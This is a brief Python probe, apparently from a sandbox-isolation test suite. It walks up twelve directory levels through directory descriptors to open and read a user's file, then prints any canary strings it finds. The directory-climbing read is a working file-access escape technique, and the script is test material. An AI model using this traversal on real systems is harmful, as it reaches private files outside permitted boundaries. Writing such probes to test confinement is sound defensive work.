# attack: reads a file of the user's by a way up from a folder's descriptor | class: reading | canary: text
import re

SECRET = re.compile(rb"canary:[a-z]+:[0-9a-f]{16}")


def show(data):
    data = data.encode("utf-8", "replace") if isinstance(data, str) else bytes(data)
    for found in set(SECRET.findall(data)):
        print(found.decode())

import os

folder = os.open(".", os.O_RDONLY)
for _ in range(12):
    folder = os.open("..", os.O_RDONLY, dir_fd=folder)
with open(os.open(target.file.lstrip("/"), os.O_RDONLY, dir_fd=folder)) as file:
    show(file.read())
